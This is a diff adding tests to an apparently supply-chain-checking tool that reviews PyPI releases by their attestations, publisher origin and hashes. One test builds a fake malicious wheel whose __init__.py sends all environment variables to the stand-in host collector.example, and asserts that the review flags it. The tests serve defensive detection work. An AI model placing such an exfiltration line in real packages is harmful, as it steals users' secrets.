@@ -5,6 +5,7 @@ import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { type TestContext, test } from "node:test";
 import { check } from "../src/app/check.ts";
+import { review } from "../src/app/review.ts";
 import { type Signing, TEST_IDENTITY, testSigstore } from "../src/attestation/testing.ts";
 import type { Json, Report } from "../src/model/index.ts";
 import {
@@ -17,6 +18,7 @@ import {
   sha256Of,
   startIndex,
 } from "./registry/pypi.ts";
+import { zip } from "./registry/zip.ts";
 
 const PUBLISH = "https://docs.pypi.org/attestations/publish/v1";
 const sigstore = testSigstore();
@@ -40,7 +42,7 @@ const claims: Readonly<Record<number, string>> = {
 /** The publish attestation of a file, and whatever is bent about it. */
 function attested(
   name: string,
-  content: string,
+  content: string | Uint8Array,
   more: {
     readonly subject?: string;
     readonly digest?: string;
@@ -66,6 +68,8 @@ interface Desk {
   readonly index: FakeIndex;
   readonly home: string;
   readonly write: (files: Readonly<Record<string, string>>) => void;
+  /** The environment and folder of a run. */
+  readonly place: { readonly cwd: string; readonly env: Readonly<Record<string, string>> };
   readonly check: (more?: { readonly offline?: boolean; readonly env?: Readonly<Record<string, string | undefined>> }) => Promise<Report>;
 }
 
@@ -94,6 +98,7 @@ async function desk(t: TestContext, projects: readonly FakeProject[], options: F
   return {
     index,
     home,
+    place: { cwd: project, env: base },
     write: (files) => {
       for (const path of ["uv.lock", "poetry.lock", "requirements.txt"]) rmSync(join(project, path), { force: true });
       for (const [path, text] of Object.entries(files)) {
@@ -424,4 +429,60 @@ test("an index that neither the configuration nor a manifest names is told, befo
   const declared =
     '[project]\nname = "app"\nversion = "1"\n\n[[tool.uv.index]]\nname = "own"\nurl = "https://index.stranger.example/simple"\nexplicit = true\n';
   assert.equal(await hosts({ "pyproject.toml": declared }), "");
+});
+
+const wheelOf = (version: string, code: string): Buffer =>
+  zip([
+    { path: "good/__init__.py", content: code },
+    { path: `good-${version}.dist-info/METADATA`, content: `Metadata-Version: 2.1\nName: good\nVersion: ${version}\n` },
+  ]);
+
+test("two releases of an index are reviewed by the wheel that anybody would install, and by where both come from", async (t) => {
+  const theft = 'import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n';
+  const identity = "https://github.com/other/project/.github/workflows/release.yml@refs/tags/v1.1.0";
+  const elsewhere = {
+    ...claims,
+    9: identity,
+    12: "https://github.com/other/project",
+    15: "9009",
+    16: "https://github.com/other",
+    17: "9010",
+    18: identity,
+  };
+  const it = await desk(t, [
+    {
+      name: "good",
+      files: [
+        attested(WHEEL, wheelOf("1.0", "def add(a, b):\n    return a + b\n")),
+        attested("good-1.1-py3-none-any.whl", wheelOf("1.1", theft), {
+          publisher: { ...github, repository: "other/project" },
+          signing: { identity, claims: elsewhere },
+        }),
+      ],
+    },
+  ]);
+  const compare = async (offline: boolean) =>
+    await review({ kind: "pair", before: "pypi:good@1.0", after: "pkg:pypi/good@1.1" }, { ...it.place, offline });
+  const [first] = await compare(false);
+  assert.equal(first?.package, "good");
+  assert.ok(first.files.some(({ path }) => path === "good/__init__.py"));
+  assert.deepEqual(
+    first.origin.changes.map(({ about }) => about),
+    ["repository", "owner"],
+  );
+  assert.notEqual(first.verdict.verdict, "pass");
+  assert.deepEqual(await compare(true), [first], "offline it says the same");
+  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@9.9" }, { ...it.place, offline: false }), {
+    code: "source/not-found",
+  });
+});
+
+test("bytes that are not those of the index's hash are not reviewed", async (t) => {
+  const it = await desk(t, [{ name: "good", files: [{ name: WHEEL, content: wheelOf("1.0", "") }] }]);
+  const swapped = { name: WHEEL, content: wheelOf("1.0", "import os\n"), hash: sha256Of("other") };
+  it.index.publish({ name: "good", files: [swapped] });
+  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@1.0" }, { ...it.place, offline: false }), {
+    code: "source/body",
+    message: /have not the SHA-256 that the index gives/,
+  });
 });
